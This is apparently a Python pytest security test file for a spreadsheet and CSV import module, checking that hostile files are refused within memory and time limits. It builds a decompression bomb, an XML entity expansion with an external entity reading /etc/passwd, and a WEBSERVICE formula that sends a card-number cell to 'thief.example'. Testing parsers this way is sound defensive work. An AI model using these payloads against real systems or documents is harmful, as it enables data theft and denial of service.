"""A hostile file to import: a sentence, in bounded memory and time, or plain rows; never an ended program.

Each file is read in a process of its own that may have 700 MB and 60 seconds of processor time. What the user sees
is the sentence asserted here.
"""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from tests.security.hostile_files import cell, lying, sheet, workbook

ROOT = Path(__file__).resolve().parents[2]
READER = """
import json, resource, sys
from pathlib import Path
resource.setrlimit(resource.RLIMIT_AS, (700 << 20, 700 << 20))
resource.setrlimit(resource.RLIMIT_CPU, (60, 60))
from workstation.desk.importing.reading import Row, read_table
from workstation.desk.importing.refusals import UnreadableFileError
try:
    table = read_table(Path(sys.argv[1]))
    rows = list(table.rows)
except UnreadableFileError as error:
    print(json.dumps({"refused": error.message.plain()}))
else:
    good = [row for row in rows if isinstance(row, Row)]
    print(json.dumps({
        "header": table.header[:5], "rows": [list(row.cells.values())[:5] for row in good[:5]],
        "faults": [{name: said.plain() for name, said in row.faults.items()} for row in good[:5]],
        "errors": [row.reason.plain() for row in rows if not isinstance(row, Row)][:5]}))
"""


def read(path: Path) -> dict[str, Any]:
    done = subprocess.run(
        [sys.executable, "-c", READER, path], cwd=ROOT, capture_output=True, text=True, timeout=280, check=False
    )
    assert done.returncode == 0, done.stderr[-2000:]
    answer: dict[str, Any] = json.loads(done.stdout)
    return answer


def rows(*cells: str) -> str:
    return "".join(f'<row r="{n}">{each}</row>' for n, each in enumerate(cells, 1))


ENTITIES = (
    '<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY f SYSTEM "file:///etc/passwd">]>'
)
CORNERS = rows(cell("A1", "x")) + f'<row r="1048576">{cell("XFD1048576", "y")}</row>'
EXCEL: dict[str, tuple[Callable[[Path], Path], str]] = {
    "a bomb": (lambda to: workbook(to, sheet(rows(cell("A1", "x" * 400_000_000)))), "200 times its size"),
    "a bomb that understates itself": (lying, "cannot be opened as an Excel file"),
    "opposite corners": (lambda to: workbook(to, sheet(CORNERS)), "too far apart"),
    "opposite corners, otherwise spelled": (
        lambda to: workbook(to, sheet(CORNERS.replace('<c r="XFD1048576"', "<c s='>' r = 'XFD1048576'"))),
        "too far apart",
    ),
    "a place no sheet has": (
        lambda to: workbook(to, sheet(rows(cell("ZZZZZZ99999999999", "x")))),
        "cannot be opened as an Excel file: damaged",
    ),
    "entities": (
        lambda to: workbook(to, sheet(rows(cell("A1", "&c;") + cell("B1", "&f;")), doctype=ENTITIES)),
        "cannot be opened as an Excel file",
    ),
    "a part twice": (
        lambda to: workbook(to, sheet(rows(cell("A1", "x"))), {"xl/worksheets/sheet1.xml": b"<worksheet/>"}),
        "a part is there twice",
    ),
    "half a file": (
        lambda to: Path(to.write_bytes(workbook(to, sheet(rows(cell("A1", "x")))).read_bytes()[:700]) and to),
        "cannot be opened as an Excel file",
    ),
    "no zip at all": (lambda to: Path(to.write_bytes(b"PK\x03\x04" + bytes(5000)) and to), "Excel file"),
    "16,384 columns": (
        lambda to: workbook(to, sheet(rows(cell("A1", "a") + cell("XFD1", "z"), cell("A2", "1")))),
        "more than 400 columns",
    ),
}  # fmt: skip


@pytest.mark.filterwarnings("ignore:Duplicate name")
@pytest.mark.parametrize("name", EXCEL)
def test_a_hostile_excel_file_is_refused_with_a_sentence(name: str, tmp_path: Path) -> None:
    make, said = EXCEL[name]
    answer = read(make(tmp_path / "book.xlsx"))
    assert said in answer.get("refused", ""), answer


def test_a_dimension_that_promises_a_whole_sheet_costs_nothing(tmp_path: Path) -> None:
    promised = sheet(rows(cell("A1", "x"), cell("A2", "1")), before='<dimension ref="A1:XFD1048576"/>')
    assert read(workbook(tmp_path / "book.xlsx", promised))["rows"] == [["1"]]


def test_macros_in_a_workbook_are_not_even_looked_at(tmp_path: Path) -> None:
    extra = {"xl/vbaProject.bin": b"Attribute VB_Name", "xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"}
    answer = read(workbook(tmp_path / "book.xlsx", sheet(rows(cell("A1", "x"), cell("A2", "1"))), extra))
    assert answer["rows"] == [["1"]]


@pytest.mark.parametrize("prefix", ["", "x:"])
def test_a_formula_is_no_value_however_its_element_is_written(tmp_path: Path, prefix: str) -> None:
    formula = f'<{prefix}c r="A2"><{prefix}f>WEBSERVICE("https://thief.example/"&amp;B2)</{prefix}f><{prefix}v>1</{prefix}v></{prefix}c>'
    content = sheet(rows(cell("A1", "x") + cell("B1", "y"), formula + cell("B2", "6217000000004031")))
    content = content.replace(
        "<worksheet ", '<worksheet xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    )
    answer = read(workbook(tmp_path / "book.xlsx", content))
    if "refused" not in answer:
        assert "formula" in answer["faults"][0]["x"]


TEXT: dict[str, tuple[bytes, str]] = {
    "a million columns": (b",".join(b"c%d" % n for n in range(1_000_000)) + b"\n", "more than 400 columns"),
    "NUL": (b"a,b\n1,\0\n", "not a text file"),
    "a quotation mark never closed": (b'a,b\n1,"' + b"x" * 3_000_000, "quotation mark"),
    "one endless line": (b"a,b\n" + b"9" * 40_000_000, "quotation mark"),
    "no encoding": (b"a,b\n" + b"\xff\x80\xff" * 400, "neither UTF-8 nor GB18030"),
    "half of a wide character": ("a,b\n1,2".encode("utf-16"), "not a text file"),
    "nothing": (b"", "is empty"),
    "only separators": (b",,,\n" * 100_000, "is empty"),
}


@pytest.mark.parametrize("name", TEXT)
def test_a_hostile_text_file_is_refused_with_a_sentence(name: str, tmp_path: Path) -> None:
    content, said = TEXT[name]
    path = tmp_path / "book.csv"
    path.write_bytes(content)
    answer = read(path)
    assert said in answer.get("refused", ""), answer
